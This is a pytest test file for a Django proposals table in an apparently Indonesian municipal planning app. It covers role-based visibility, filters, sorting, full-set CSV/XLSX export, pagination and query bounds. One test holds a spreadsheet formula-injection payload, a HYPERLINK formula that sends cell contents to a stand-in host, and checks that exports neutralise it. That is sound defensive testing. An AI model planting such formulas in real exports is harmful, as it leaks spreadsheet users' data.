"""The proposals table: filters, sorting, export of the whole filtered set, bounded queries."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from areas.services import rw_ensure
from proposals.models import Proposal, Status
from tests.proposal_fixtures import make_proposal


@pytest.fixture
def spread(cycle, rw_kenari, rw_paseban, gambir, betonisasi, tenda, superuser):
    """Proposals in Kenari (3 fisik), Paseban (2 goods) and Gambir (1 fisik)."""
    kel_gambir = gambir.children.get(name="Gambir")
    rw_gambir = rw_ensure(kelurahan=kel_gambir, count=1)[0]
    for _ in range(3):
        make_proposal(cycle, rw_kenari[0], betonisasi, superuser)
    for _ in range(2):
        make_proposal(cycle, rw_paseban, tenda, superuser, status=Status.ACCEPTED)
    make_proposal(cycle, rw_gambir, betonisasi, superuser, recommendation="recommended")


def codes(response) -> list[str]:
    return [row.record.code for row in response.context["table"].paginated_rows]


def test_the_planning_office_sees_the_whole_kota(client, suban, spread):
    client.force_login(suban)
    assert len(codes(client.get(reverse("proposals:list")))) == 6


def test_a_lurah_sees_the_kelurahan_only(client, lurah_kenari, spread):
    client.force_login(lurah_kenari)
    response = client.get(reverse("proposals:list"))
    assert len(codes(response)) == 3
    assert all(
        p.kelurahan.name == "Kenari" for p in Proposal.objects.filter(code__in=codes(response))
    )


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"category": "pengadaan"}, 2),
        ({"status": "accepted"}, 2),
        ({"recommendation": "recommended"}, 1),
        ({"recommendation": "none"}, 5),
        ({"q": "tenda"}, 2),
        ({"q": "JP24-00001"}, 1),
    ],
)
def test_filters(client, suban, spread, params, expected):
    client.force_login(suban)
    assert len(codes(client.get(reverse("proposals:list"), params))) == expected


def options(form, name) -> int:
    """How many choices a filter offers, besides "all"."""
    return len([value for value, _label in form.fields[name].choices if value != ""])


def test_area_filters_follow_each_other(client, suban, spread, senen, kenari):
    client.force_login(suban)
    response = client.get(reverse("proposals:list"))
    form = response.context["filter"].form
    assert options(form, "kecamatan") == 8
    assert options(form, "kelurahan") == 0  # none until a kecamatan is chosen
    response = client.get(reverse("proposals:list"), {"kecamatan": senen.pk})
    form = response.context["filter"].form
    assert options(form, "kelurahan") == 6
    assert len(codes(response)) == 5
    response = client.get(
        reverse("proposals:list"), {"kecamatan": senen.pk, "kelurahan": kenari.pk}
    )
    assert options(response.context["filter"].form, "rw") == 2
    assert len(codes(response)) == 3


def test_a_lurah_gets_rw_choices_at_once(client, lurah_kenari, spread):
    client.force_login(lurah_kenari)
    form = client.get(reverse("proposals:list")).context["filter"].form
    assert "kecamatan" not in form.fields
    assert "kelurahan" not in form.fields
    assert options(form, "rw") == 2


def test_a_ketua_rw_is_offered_no_area_filter(client, rw_kenari_001, spread):
    client.force_login(rw_kenari_001)
    form = client.get(reverse("proposals:list")).context["filter"].form
    assert not {"kecamatan", "kelurahan", "rw"} & set(form.fields)


def test_sorting_by_cost(client, suban, spread):
    client.force_login(suban)
    response = client.get(reverse("proposals:list"), {"sort": "-cost"})
    costs = [row.record.cost for row in response.context["table"].paginated_rows]
    assert costs == sorted(costs, reverse=True)


def test_csv_export_has_every_filtered_row_and_the_columns(client, suban, spread):
    client.force_login(suban)
    response = client.get(reverse("proposals:list"), {"_export": "csv", "category": "fisik"})
    assert response["Content-Disposition"].endswith('usulan.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[0] == [
        "Kode",
        "Judul",
        "Kategori",
        "Kecamatan",
        "Kelurahan",
        "RW",
        "Item kamus",
        "Volume",
        "Satuan",
        "Biaya (Rp)",
        "UKPD",
        "Status",
        "Sumber",
        "Rekomendasi survei",
    ]
    assert len(rows) == 1 + 4
    kenari_row = next(r for r in rows[1:] if r[4] == "Kenari")
    assert kenari_row[3] == "Senen"
    assert kenari_row[9] == "54000000"


def test_export_is_not_limited_to_one_page(client, suban, cycle, rw_kenari, tenda, superuser):
    for _ in range(60):
        make_proposal(cycle, rw_kenari[1], tenda, superuser)
    client.force_login(suban)
    response = client.get(reverse("proposals:list"), {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 61


def test_a_lurahs_export_holds_the_kelurahan_only(client, lurah_kenari, spread):
    client.force_login(lurah_kenari)
    response = client.get(reverse("proposals:list"), {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))[1:]
    assert len(rows) == 3
    assert {r[4] for r in rows} == {"Kenari"}


def test_the_table_paginates_without_counting_the_whole_table(client, suban, spread):
    client.force_login(suban)
    with CaptureQueriesContext(connection) as captured:
        assert client.get(reverse("proposals:list"), {"page": 2}).status_code == 200
    counts = [q["sql"] for q in captured.captured_queries if "COUNT(" in q["sql"].upper()]
    proposal_counts = [sql for sql in counts if "proposals_proposal" in sql]  # (not the menu's)
    # The pager's count stops at a cap (proposals.tables.COUNT_CAP): never the whole table.
    assert len(proposal_counts) == 1 and "LIMIT 10001" in proposal_counts[0]


@pytest.mark.parametrize("sort", [None, "-cost", "kelurahan", "title"])
def test_pages_follow_each_other_without_gap_or_repeat(
    client, suban, cycle, rw_kenari, rw_paseban, betonisasi, tenda, superuser, sort
):
    """Deep pages find their ids first; ties on the sorted column are broken by the code."""
    for i in range(120):
        rw = [rw_kenari[0], rw_kenari[1], rw_paseban][i % 3]
        make_proposal(cycle, rw, betonisasi if i % 4 else tenda, superuser)
    client.force_login(suban)
    params = {"sort": sort} if sort else {}
    pages = []
    for number in (1, 2, 3):
        response = client.get(reverse("proposals:list"), {**params, "page": number})
        pages.append([row.record.code for row in response.context["table"].paginated_rows])
    assert [len(p) for p in pages] == [50, 50, 20]
    shown = [code for page in pages for code in page]
    order = {
        None: ["-code"],
        "-cost": ["-cost", "-code"],
        "kelurahan": ["kelurahan__code", "code"],
        "title": ["title", "code"],
    }[sort]
    assert shown == list(Proposal.objects.order_by(*order).values_list("code", flat=True))
    assert (
        pages[1][0] in client.get(reverse("proposals:list"), {**params, "page": 2}).content.decode()
    )


def grow(cycle, rw_kenari, betonisasi, tenda, superuser, n):
    for i in range(n):
        make_proposal(cycle, rw_kenari[i % 2], betonisasi if i % 3 else tenda, superuser)


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"category": "fisik", "sort": "-cost"},
        {"q": "Tenda"},
        {"kecamatan": "senen", "kelurahan": "kenari"},
        {"page": 2},
    ],
)
def test_table_queries_do_not_grow_with_the_data(
    client, suban, cycle, senen, kenari, rw_kenari, betonisasi, tenda, superuser, params
):
    """The benchmark's table pages, at 56 and 116 proposals (page 2 holds 6, then 50); one of
    the queries is the pager's count, capped."""
    params = {k: {"senen": senen.pk, "kenari": kenari.pk}.get(v, v) for k, v in params.items()}
    client.force_login(suban)
    grow(cycle, rw_kenari, betonisasi, tenda, superuser, 56)

    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("proposals:list"), params).status_code == 200
        return len(captured)

    small = count()
    grow(cycle, rw_kenari, betonisasi, tenda, superuser, 60)
    assert count() == small <= 11


FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_exports_neutralise_formulas(
    client, suban, cycle, rw_kenari, betonisasi, superuser, export
):
    make_proposal(cycle, rw_kenari[0], betonisasi, superuser, title=FORMULA, measure="@SUM(1)")
    client.force_login(suban)
    response = client.get(reverse("proposals:list"), {"_export": export})
    if export == "csv":
        row = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))[1]
        title, measure, cost = row[1], row[8], row[9]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = sheet[2]
        assert cells[1].data_type == "s"  # text, not a formula
        title, measure, cost = cells[1].value, cells[8].value, cells[9].value
    assert title == "'" + FORMULA
    assert measure == "'@SUM(1)"
    assert int(cost) == 54_000_000  # numbers stay numbers


def test_spreadsheet_text_leaves_ordinary_values_alone():
    from areas.formatting import spreadsheet_text

    assert spreadsheet_text("Betonisasi jalan") == "Betonisasi jalan"
    assert spreadsheet_text(-5) == -5
    assert spreadsheet_text("-5") == "'-5"
    assert spreadsheet_text("\tx") == "'\tx"
    assert spreadsheet_text("") == ""
